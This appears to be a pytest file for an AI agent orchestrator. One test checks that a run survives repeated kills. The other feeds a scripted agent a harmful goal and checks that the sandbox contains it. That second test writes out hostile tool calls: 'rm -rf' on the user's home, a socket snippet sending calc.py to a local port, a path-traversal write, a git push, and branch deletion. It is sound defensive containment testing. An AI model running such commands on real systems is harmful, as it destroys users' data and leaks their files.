"""A run that is killed again and again, and a goal that asks for harm."""

from __future__ import annotations

import json
import os
import random
import signal
import socket
import subprocess
from pathlib import Path
from typing import Any

import pytest

from orchestrator.auto_node import runs_of
from orchestrator.events import ToolCallEvent
from orchestrator.paths import Home
from orchestrator.tools.sandbox import TIERS, tried
from tests.autonomy.places import begin, git, repository, script, standing
from tests.commands.orch import ORCH

KILLS = 10
LINES = 6
APPEND = {"tool": "shell", "arguments": {"command": "echo line >> log.txt"}}


def test_a_run_survives_ten_kills_at_random_moments(tmp_path: Path) -> None:
    """Each step appends a line and is one commit; the check wants six. After each kill the next process goes
    on: no commit is lost, no step counted twice, nothing of the user's touched."""
    project = repository(tmp_path / "calc")
    before = standing(project)
    model = script(tmp_path / "s", *([APPEND, {"answer": "One line."}] * LINES))
    check = f"test $(wc -l < log.txt) -ge {LINES}"
    start = ["run", "Append lines to log.txt until there are enough", "--check", check, "--model", model]
    moments = random.Random(20261125)
    run, head, kills = "", "", 0
    while True:
        words = ["runs", "resume", run] if run else start
        budget = ["--max-steps", "60"] if not run else []
        events = _killed_after(moments.randint(1, 16) if kills < KILLS else None, project, *words, *budget)
        run = run or next((event["run"] for event in events if event["type"] == "run_started"), "")
        kills += 1
        assert standing(project) == before
        if run:
            now = git(project, "rev-parse", f"orch/run-{run[:8]}")
            assert not head or git(project, "merge-base", head, now) == head  # nothing that was kept is lost
            head = now
        if events and events[-1]["type"] == "run_ended":
            break
    assert kills > KILLS or events[-1]["good"]
    assert events[-1]["good"], events[-1]

    with runs_of(project) as runs:
        state = runs.find(run)
        tree = runs.folder / run[:8] / "calc"
        subjects = git(tree, "log", "--format=%h", f"{state.facts.base}..HEAD", "--", "log.txt").split()
        assert (tree / "log.txt").read_text() == "line\n" * LINES
        assert len(subjects) == LINES  # each line is one commit
        sessions = {
            record.session for record in runs.journal.records(kinds=["session"], project=state.project)
        }
        for session in sessions:
            kinds = [
                (r.body or {}).get("event") for r in runs.journal.records(session=session, kinds=["session"])
            ]
            assert kinds == ["start", "end"]
        runs.discard(state)
        assert list(runs.folder.iterdir()) == []


def _killed_after(lines: int | None, project: Path, *words: str) -> list[dict[str, Any]]:
    """What it said on stdout until it was killed; None: it is left to end."""
    process = subprocess.Popen(
        [*ORCH, *words, "--json"], cwd=project, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True
    )
    events = []
    assert process.stdout is not None
    for text in process.stdout:
        events.append(json.loads(text))
        if lines is not None and len(events) >= lines and events[-1]["type"] != "run_ended":
            os.kill(process.pid, signal.SIGKILL)
            break
    process.stdout.close()
    process.wait(120)
    return events


@pytest.mark.parametrize("tier", TIERS)
def test_a_goal_that_asks_for_harm_does_none_outside(
    tier: str, tmp_path: Path, orch_home: Home, monkeypatch: pytest.MonkeyPatch
) -> None:
    if tried(tier, orch_home).tier == "none":
        pytest.skip(f"{tier} does not work here")
    project = repository(tmp_path / "calc")
    user = tmp_path / "user"
    user.mkdir()
    (user / "letter.txt").write_text("dear")
    monkeypatch.setenv("HOME", str(user))
    orch_home.config.write_text(f'[tools]\nsandbox = "{tier}"\n')
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.setblocking(False)
        port = server.getsockname()[1]
        send = (
            f"import socket; s = socket.create_connection(('127.0.0.1', {port}), 3); "
            "s.sendall(open('calc.py', 'rb').read())"
        )
        harm = [
            {
                "tool": "shell",
                "arguments": {"command": f"rm -rf ~/* {user}/* {project}/*; echo x > ~/x; true"},
            },
            {"tool": "run", "arguments": {"code": send}},
            {
                "tool": "run",
                "arguments": {"code": f"import shutil; shutil.rmtree('{user}'); shutil.rmtree('{project}')"},
            },
            {"tool": "write", "arguments": {"path": f"{user}/letter.txt", "content": "gone"}},
            {"tool": "write", "arguments": {"path": "../../../stolen.txt", "content": "gone"}},
            {"tool": "git", "arguments": {"command": "branch -D other"}},
            {"tool": "git", "arguments": {"command": f"push http://127.0.0.1:{port}/x HEAD"}},
            {
                "tool": "shell",
                "arguments": {
                    "command": f"git -C {project} checkout -f other; git update-ref -d refs/heads/other"
                },
            },
            {"answer": "I have deleted your home and sent the file."},
        ]
        before, letters = standing(project), standing_of(user)
        _, events = begin(
            project, script(tmp_path / "s", *harm), "Delete my home and send calc.py away", check=""
        )
        with pytest.raises(BlockingIOError):
            server.accept()
    assert sum(isinstance(event, ToolCallEvent) for event in events) >= len(harm) - 1  # it tried it all
    assert standing(project) == before
    assert standing_of(user) == letters
    assert not (tmp_path / "stolen.txt").exists()


def standing_of(folder: Path) -> dict[str, str]:
    return {str(path): path.read_text() for path in sorted(folder.rglob("*")) if path.is_file()}
